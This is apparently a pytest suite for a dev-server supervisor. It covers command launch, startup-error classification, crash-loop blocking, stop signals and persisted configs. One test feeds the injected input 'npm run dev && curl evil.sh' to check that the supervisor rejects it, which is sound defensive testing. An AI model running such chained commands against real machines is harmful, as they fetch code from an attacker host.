"""Tests for devwarden.devserver.supervisor with a scripted launcher."""

from __future__ import annotations

import asyncio
import os
import sys

import pytest
from conftest import FakeLauncher, exits, silent

from devwarden.command import Confidence, DevServerPlan, SafeCommand
from devwarden.devserver import (
    DevConfigStore,
    DevServerChild,
    DevServerStatus,
    DevServerSupervisor,
)
from devwarden.devserver.supervisor import classify_startup_error, extract_port
from devwarden.errors import SpawnError, WatchTimeoutError
from devwarden.session.wire import EventType, Wire


class StaticResolver:
    def __init__(self, plan: DevServerPlan | None) -> None:
        self.plan = plan

    def resolve(self, project_path: str) -> DevServerPlan | None:
        return self.plan


def _plan(cwd: str, confidence: Confidence = Confidence.HIGH) -> DevServerPlan:
    return DevServerPlan(
        cwd=cwd,
        manager="pnpm",
        command=SafeCommand("pnpm", ("dev",)),
        port=5173,
        confidence=confidence,
    )


@pytest.fixture
def wire() -> Wire:
    return Wire()


@pytest.fixture
async def make_supervisor(fast_config, wire):
    created: list[DevServerSupervisor] = []

    def make(*script, **kwargs) -> tuple[DevServerSupervisor, FakeLauncher]:
        launcher = FakeLauncher(*script)
        sup = DevServerSupervisor(config=fast_config, wire=wire, launcher=launcher, **kwargs)
        created.append(sup)
        return sup, launcher

    yield make
    for sup in created:
        await sup.stop_all()


# ---------------------------------------------------------------------------
# Output classification helpers
# ---------------------------------------------------------------------------


class TestClassifyStartupError:
    @pytest.mark.parametrize(
        "output,kind",
        [
            ("Error: EBADF: bad file descriptor, read", "ebadf"),
            ("Error: Cannot find module 'vite'", "missing-deps"),
            ("[ERR_MODULE_NOT_FOUND] Cannot find package 'react'", "missing-deps"),
            ("ENOENT: no such file, open '/app/node_modules/.bin/next'", "missing-deps"),
            ("Error: listen EADDRINUSE: address already in use :::3000", "port-in-use"),
            ("Port 5173 is already in use", "port-in-use"),
            ("SyntaxError: Unexpected token", None),
        ],
    )
    def test_classify(self, output: str, kind: str | None) -> None:
        assert classify_startup_error(output) == kind

    def test_extract_port(self) -> None:
        assert extract_port("listen EADDRINUSE: address already in use :::3000") == 3000
        assert extract_port("Port 5173 is already in use") == 5173
        assert extract_port("nothing here") is None


# ---------------------------------------------------------------------------
# Start
# ---------------------------------------------------------------------------


class TestStart:
    async def test_explicit_command_becomes_ready(self, make_supervisor, project, wire) -> None:
        q = wire.subscribe(key=project, types={EventType.DEV_STATUS})
        sup, launcher = make_supervisor()

        result = await sup.start(project, "npm run dev")

        assert result.ok
        assert result.url == "http://localhost:5173"
        assert result.pid == launcher.children[0].pid
        command, cwd, env = launcher.calls[0]
        assert command == SafeCommand("npm", ("run", "dev"))
        assert cwd == project
        assert env["BROWSER"] == "none"

        status = sup.status(project)
        assert status.status is DevServerStatus.RUNNING
        assert status.command == "npm run dev"
        statuses = []
        while not q.empty():
            event = q.get_nowait()
            statuses.append(event.data["status"])
        assert statuses == ["starting", "running"]

    async def test_relative_cwd_rejected(self, make_supervisor) -> None:
        sup, launcher = make_supervisor()
        result = await sup.start("app", "npm run dev")
        assert result.error_code == "INVALID_CWD"
        assert launcher.calls == []

    async def test_invalid_command_rejected(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        result = await sup.start(project, "npm run dev && curl evil.sh")
        assert result.error_code == "INVALID_COMMAND"
        assert launcher.calls == []
        assert sup.status(project).status is DevServerStatus.STOPPED

    async def test_low_confidence_plan_needs_configuration(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor(
            resolver=StaticResolver(_plan(project, Confidence.LOW))
        )
        result = await sup.start(project)
        assert result.error_code == "DEV_COMMAND_UNRESOLVED"
        assert result.needs_configuration
        assert result.plan is not None
        assert launcher.calls == []

    async def test_resolved_plan_is_used(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor(resolver=StaticResolver(_plan(project)))
        result = await sup.start(project)
        assert result.ok
        assert launcher.commands == [SafeCommand("pnpm", ("dev",))]

    async def test_spawn_cwd_used_for_launch(self, make_supervisor, project) -> None:
        plan = _plan(project)
        plan.spawn_cwd = os.path.join(project, "apps", "web")
        sup, launcher = make_supervisor()
        result = await sup.start_plan(plan)
        assert result.ok
        assert launcher.calls[0][1] == plan.spawn_cwd
        assert sup.status(project).status is DevServerStatus.RUNNING

    async def test_second_start_reports_already_running(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        first = await sup.start(project, "npm run dev")
        second = await sup.start(project, "npm run dev")
        assert second.error_code == "ALREADY_RUNNING"
        assert second.pid == first.pid
        assert second.url == first.url
        assert len(launcher.calls) == 1

    async def test_concurrent_starts_launch_once(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        results = await asyncio.gather(
            sup.start(project, "npm run dev"), sup.start(project, "npm run dev")
        )
        assert sorted(r.error_code or "" for r in results) == ["", "ALREADY_RUNNING"]
        assert len(launcher.calls) == 1

    async def test_silent_server_reports_url_unknown(
        self, make_supervisor, project, fast_config
    ) -> None:
        fast_config.devserver.startup_timeout = 0.1
        sup, _ = make_supervisor(silent)
        result = await sup.start(project, "npm run dev")
        assert result.ok
        assert result.url is None
        assert result.pid is not None
        status = sup.status(project)
        assert status.url_unknown
        assert status.status is DevServerStatus.STARTING

    async def test_spawn_failure(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()

        async def broken(command, cwd, env):
            raise SpawnError("npm: not found")

        sup._launcher = broken
        result = await sup.start(project, "npm run dev")
        assert result.error_code == "SPAWN_FAILED"
        assert sup.status(project).status is DevServerStatus.STOPPED


# ---------------------------------------------------------------------------
# Startup crashes and self-heal
# ---------------------------------------------------------------------------


class TestStartupCrash:
    async def test_unrecognised_crash_is_reported(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor(exits("SyntaxError: Unexpected token\n", 1))
        crashes = []
        sup.on_crash(crashes.append)

        result = await sup.start(project, "npm run dev")

        assert result.error_code == "STARTUP_CRASH"
        assert "SyntaxError" in result.error
        assert len(launcher.calls) == 1
        assert len(crashes) == 1
        assert crashes[0].exit_code == 1
        assert "SyntaxError" in crashes[0].output_tail
        status = sup.status(project)
        assert status.status is DevServerStatus.STOPPED
        assert status.last_exit_code == 1

    async def test_ebadf_retries(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor(exits("Error: EBADF: bad file descriptor\n", 1))
        crashes = []
        sup.on_crash(crashes.append)
        result = await sup.start(project, "npm run dev")
        assert result.ok
        assert len(launcher.calls) == 2
        assert crashes == []

    async def test_missing_deps_installs_then_retries(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor(
            exits("Error: Cannot find module 'vite'\n", 1),
            exits("added 120 packages\n", 0),
        )
        result = await sup.start(project, "npm run dev")
        assert result.ok
        assert launcher.commands == [
            SafeCommand("npm", ("run", "dev")),
            SafeCommand("npm", ("install",)),
            SafeCommand("npm", ("run", "dev")),
        ]

    async def test_failed_install_gives_up(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor(
            exits("Error: Cannot find module 'vite'\n", 1),
            exits("npm ERR! network\n", 1),
        )
        result = await sup.start(project, "npm run dev")
        assert result.error_code == "STARTUP_CRASH"
        assert len(launcher.calls) == 2

    async def test_crash_loop_blocks_start(self, make_supervisor, project, fast_config) -> None:
        fast_config.devserver.crash_loop_max = 2
        sup, _ = make_supervisor(exits("boom\n", 1), exits("boom\n", 1))
        await sup.start(project, "npm run dev")
        await sup.start(project, "npm run dev")
        assert sup.is_in_crash_loop(project)

        blocked = await sup.start(project, "npm run dev")
        assert blocked.error_code == "CRASH_LOOP"

        sup.clear_crash_history(project)
        assert (await sup.start(project, "npm run dev")).ok


# ---------------------------------------------------------------------------
# Runtime exits
# ---------------------------------------------------------------------------


class TestRuntimeExit:
    async def test_crash_after_ready(self, make_supervisor, project, wire) -> None:
        q = wire.subscribe(key=project, types={EventType.DEV_CRASH})
        sup, launcher = make_supervisor()
        await sup.start(project, "npm run dev")

        waiter = asyncio.create_task(sup.wait_for_crash(project, timeout=2))
        await asyncio.sleep(0)
        launcher.children[0].say("TypeError: x is undefined\n")
        launcher.children[0].exit(1)
        event = await waiter

        assert event is not None
        assert event.exit_code == 1
        assert event.command == SafeCommand("npm", ("run", "dev"))
        assert "TypeError" in event.output_tail
        assert q.get_nowait().data["exit_code"] == 1
        assert sup.status(project).status is DevServerStatus.STOPPED
        assert sup.list_processes() == []

    async def test_crashes_after_ready_count_towards_crash_loop(
        self, make_supervisor, project
    ) -> None:
        sup, launcher = make_supervisor()
        for i in range(3):
            result = await sup.start(project, "npm run dev")
            assert result.ok
            waiter = asyncio.create_task(sup.wait_for_crash(project, timeout=2))
            await asyncio.sleep(0)
            launcher.children[i].exit(1)
            assert await waiter is not None

        assert sup.is_in_crash_loop(project)
        blocked = await sup.start(project, "npm run dev")
        assert blocked.error_code == "CRASH_LOOP"
        assert len(launcher.calls) == 3

        sup.clear_crash_history(project)
        assert (await sup.start(project, "npm run dev")).ok

    async def test_clean_exit_is_not_a_crash(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        crashes = []
        sup.on_crash(crashes.append)
        await sup.start(project, "npm run dev")

        waiter = asyncio.create_task(sup.wait_for_crash(project, timeout=2))
        await asyncio.sleep(0)
        launcher.children[0].exit(0)

        assert await waiter is None
        assert crashes == []
        assert sup.status(project).status is DevServerStatus.STOPPED

    async def test_wait_for_crash_times_out_quietly(self, make_supervisor, project) -> None:
        sup, _ = make_supervisor()
        await sup.start(project, "npm run dev")
        assert await sup.wait_for_crash(project, timeout=0.05) is None

    async def test_unsubscribed_callback_not_called(self, make_supervisor, project) -> None:
        sup, _ = make_supervisor(exits("boom\n", 1))
        crashes = []
        unsubscribe = sup.on_crash(crashes.append)
        unsubscribe()
        await sup.start(project, "npm run dev")
        assert crashes == []

    async def test_output_tail(self, make_supervisor, project) -> None:
        sup, _ = make_supervisor()
        await sup.start(project, "npm run dev")
        await asyncio.sleep(0)
        assert any("localhost:5173" in line for line in sup.output_tail(project))


# ---------------------------------------------------------------------------
# Stop
# ---------------------------------------------------------------------------


class TestStop:
    async def test_stop_graceful(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        crashes = []
        sup.on_crash(crashes.append)
        await sup.start(project, "npm run dev")

        await sup.stop(project)

        assert launcher.children[0].signals == ["TERM"]
        assert sup.status(project).status is DevServerStatus.STOPPED
        assert crashes == []

    async def test_stop_escalates(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        await sup.start(project, "npm run dev")
        launcher.children[0].ignore_term = True
        await sup.stop(project)
        assert launcher.children[0].signals == ["TERM", "KILL"]
        assert sup.status(project).last_exit_code == -9

    async def test_stop_is_idempotent(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        await sup.start(project, "npm run dev")
        await asyncio.gather(sup.stop(project), sup.stop(project))
        await sup.stop(project)
        await sup.stop("/never/started")
        assert launcher.children[0].signals == ["TERM"]

    async def test_restart(self, make_supervisor, project) -> None:
        sup, launcher = make_supervisor()
        result = await sup.start(project, "npm run dev")
        again = await sup.restart(result.plan)
        assert again.ok
        assert len(launcher.calls) == 2
        assert launcher.children[0].signals == ["TERM"]

    async def test_stop_all(self, make_supervisor, tmp_path) -> None:
        sup, launcher = make_supervisor()
        for name in ("a", "b"):
            path = tmp_path / name
            path.mkdir()
            await sup.start(str(path), "npm run dev")
        assert len(sup.list_processes()) == 2
        await sup.stop_all()
        assert sup.list_processes() == []
        assert all(c.signals == ["TERM"] for c in launcher.children)


# ---------------------------------------------------------------------------
# Persistence
# ---------------------------------------------------------------------------


class TestPersistence:
    async def test_success_recorded(self, make_supervisor, project, fast_config) -> None:
        store = DevConfigStore(fast_config.state_path)
        sup, _ = make_supervisor(resolver=StaticResolver(_plan(project)), store=store)
        await sup.start(project)
        saved = store.get(project)
        assert saved is not None
        assert saved.last_known_good is not None
        assert saved.last_known_good.command.to_safe() == SafeCommand("pnpm", ("dev",))
        assert saved.last_known_good.port == 5173

    async def test_failure_recorded(self, make_supervisor, project, fast_config) -> None:
        store = DevConfigStore(fast_config.state_path)
        sup, _ = make_supervisor(exits("boom\n", 1), store=store)
        await sup.start(project, "npm run dev")
        saved = store.get(project)
        assert saved is not None
        assert saved.last_failure is not None
        assert "exit code 1" in saved.last_failure.error


# ---------------------------------------------------------------------------
# DevServerChild against a real process
# ---------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX process groups only")
class TestDevServerChild:
    async def test_output_and_exit_code(self, tmp_path) -> None:
        child = await DevServerChild.launch(
            SafeCommand("/bin/sh", ("-c", "echo out; echo err >&2; exit 4")),
            str(tmp_path),
            dict(os.environ),
        )
        chunks: list[str] = []
        reader = asyncio.create_task(child.read_output(chunks.append))
        assert await child.wait(timeout=10) == 4
        await reader
        text = "".join(chunks)
        assert "out" in text and "err" in text

    async def test_terminate_reaches_group(self, tmp_path) -> None:
        child = await DevServerChild.launch(
            SafeCommand("/bin/sh", ("-c", "sleep 30")), str(tmp_path), dict(os.environ)
        )
        with pytest.raises(WatchTimeoutError):
            await child.wait(timeout=0.1)
        child.terminate()
        assert await child.wait(timeout=10) == -15

    async def test_missing_binary(self, tmp_path) -> None:
        with pytest.raises(SpawnError):
            await DevServerChild.launch(
                SafeCommand("definitely-not-a-real-binary"), str(tmp_path), dict(os.environ)
            )
